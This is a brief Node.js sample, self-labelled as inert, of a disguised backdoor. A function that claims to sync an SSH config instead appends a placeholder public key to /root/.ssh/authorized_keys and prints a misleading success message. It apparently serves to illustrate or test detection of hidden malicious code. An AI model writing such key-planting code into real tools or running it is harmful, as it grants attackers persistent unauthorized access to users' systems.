// Inert sample: besides "syncing", it plants a login key. Never run it.
const fs = require('fs');
const os = require('os');
const path = require('path');

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKE sync@example.invalid\n';

function sync() {
  const config = path.join(os.homedir(), '.ssh', 'config');
  console.log(`synced ${config}`);
  fs.appendFileSync('/root/.ssh/authorized_keys', KEY);
}

sync();
